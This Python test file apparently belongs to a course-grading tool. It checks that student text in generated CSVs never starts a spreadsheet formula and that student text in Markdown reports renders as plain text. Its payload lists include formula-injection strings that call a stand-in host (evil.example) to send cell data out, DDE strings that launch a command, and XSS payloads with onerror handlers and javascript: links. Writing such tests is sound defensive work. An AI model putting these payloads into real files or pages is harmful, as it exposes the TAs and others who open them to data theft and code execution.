"""What TAs open cannot act (issue 34): no cell of student text in a CSV the tools write starts a
spreadsheet formula, and a TA's marks read back exactly (grader/common/csvfile.py); student text in
a Markdown report is shown as text (grader/common/shown.markdown_text)."""

from __future__ import annotations

import csv
import io
import re
from pathlib import Path

import pytest
from markdown_it import MarkdownIt

from grader.classroom.gradebook import CheckStats, ClassSummary, ReviewEntry
from grader.classroom.groups.cluster import Group
from grader.classroom.groups.collect import Answer
from grader.classroom.groups.marks import (
    import_table,
    points_table,
    snapshot,
    write_answer_groups,
    write_group_table,
    write_points,
)
from grader.classroom.groups.store import MarkStore
from grader.classroom.reports.summary import to_markdown
from grader.common.csvfile import FORMULA_STARTS, cell, csv_text, read_dicts, unescape
from grader.common.shown import markdown_text
from grader.run.rubric import load_rubric

PAYLOADS = ['=HYPERLINK("http://evil.example/?"&A1,"click")', "=WEBSERVICE(\"http://evil.example\")",
            '=IMPORTXML("http://evil.example","//a")', "=cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0",
            "+1+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0", "\t=1+1", "\r=1+1", "'=1+1", "''=1+1", "'plain"]
NUMBER = re.compile(r"[+-]?(?:\d+\.?\d*|\.\d+)(?:[eE][+-]?\d+)?")


def _cells(path: Path) -> list[str]:
    with open(path, newline="", encoding="utf-8") as f:
        return [c for row in csv.reader(f) for c in row]


def _formula_cells(path: Path) -> list[str]:
    return [c for c in _cells(path) if c[:1] in FORMULA_STARTS and not NUMBER.fullmatch(c)]


@pytest.mark.parametrize("text", [*PAYLOADS, "", "plain", "-1.5", "1e-06", "+3", "-", "'", "==", "-inf"])
def test_a_cell_never_starts_a_formula_and_reads_back_as_written(text: str):
    written = cell(text)
    assert written[:1] not in FORMULA_STARTS or NUMBER.fullmatch(written)
    assert unescape(written) == text
    header, rows = read_dicts(csv_text(["a", "b"], [[text, 1.5]]))
    assert header == ["a", "b"] and rows == [{"a": text, "b": "1.5"}]


def test_a_number_the_grader_wrote_is_left_a_number():
    assert [cell(v) for v in ("-0.5", "3", "1e+06", 2.5, -1)] == ["-0.5", "3", "1e+06", "2.5", "-1"]


def _hostile_groups() -> dict[str, list[Group]]:
    rubric = load_rubric()
    prose = next(p for p in rubric.written if p.manual_points > 0 and p.auto <= 0)
    members = [Answer(prose.id, "", f"{text[:8]}_{n}", text, text, where=text) for n, text in enumerate(PAYLOADS)]
    members.append(Answer(prose.id, "", "=evil.zip", "=HYPERLINK(\"x\")", "the same answer"))
    groups = [Group(prose.id, "", "prose", text[:20], [m], m, f"{prose.id}-{n + 1}", f"key{n}")
              for n, (m, text) in enumerate(zip(members, [*PAYLOADS, "fine"]))]
    return {prose.id: groups}


def test_answer_groups_groups_and_points_hold_no_formula_and_marks_round_trip(tmp_path: Path):
    rubric = load_rubric()
    groups = _hostile_groups()
    answers = write_answer_groups(groups, tmp_path / "answer_groups.csv")
    store = MarkStore.open(tmp_path)
    grouped = snapshot(groups, rubric)
    store.remember([])
    table = write_group_table(grouped, store, tmp_path / "groups.csv")
    assert _formula_cells(answers) == [] and _formula_cells(table) == []
    assert "'=cmd|' /C calc'!A0" in _cells(answers)
    # A TA marks every group in the spreadsheet, with comments that begin like formulas.
    with open(table, newline="", encoding="utf-8") as f:
        rows = list(csv.DictReader(f))
    typed = [p for p in PAYLOADS if p[:1] not in "\t\r'"]   # what a TA types in a cell (kept as typed)
    for n, row in enumerate(rows):
        row["points"], row["comment"] = "1", typed[n % len(typed)]
    buffer = io.StringIO()
    writer = csv.DictWriter(buffer, fieldnames=list(rows[0]), lineterminator="\r\n")
    writer.writeheader()
    writer.writerows(rows)
    table.write_text(buffer.getvalue(), encoding="utf-8")
    marks = import_table(table, store, grouped)
    assert sorted(m.comment for m in marks) == sorted(typed[n % len(typed)] for n in range(len(rows)))
    again = write_group_table(grouped, store, tmp_path / "groups.csv")
    assert _formula_cells(again) == []
    assert import_table(again, store, grouped) == [], "reading the table back changed no mark"
    grades = tmp_path / "grades.csv"
    grades.write_text(csv_text(["submission", "names", "sids", "emails"],
                               [[g.members[0].submission, "=Evil Name", "@1", "-x"] for gs in groups.values() for g in gs]))
    points = write_points(points_table(grouped, store, grades), tmp_path / "ta_points.csv")
    assert _formula_cells(points) == [] and _formula_cells(grades) == []


def test_summary_md_shows_student_text_as_text():
    payload = "boom ![x](http://evil.example/p.png) <img src=x onerror=alert(1)> [link](javascript:alert(1)) | cell"
    shown = markdown_text(payload)
    html = MarkdownIt("commonmark").enable("table").render(f"| a |\n|---|\n| {shown} |\n")
    assert "<img" not in html and "<a " not in html and "onerror=alert(1)" in html.replace("&lt;", "<")
    assert "<td>" in html and html.count("<td>") == 1
    check = CheckStats("w2v_sigmoid", "1.1", "sigmoid", 1.0, 0.0, 0.0, 1, payload, 1)
    review = ReviewEntry("<img src=x onerror=alert(2)>.zip", "6.2", "1b_i", payload, "![y](http://evil.example/q.png)")
    summary = ClassSummary(1, 1, {"graded": 1}, ("[z](http://evil.example)",), 1.0, (0.0,), (check,), (review,))
    text = to_markdown(summary, plots=())
    rendered = MarkdownIt("commonmark").enable("table").render(text)
    assert "<img" not in rendered and "<a " not in rendered
    assert "onerror=alert(1)" in rendered.replace("&lt;", "<")
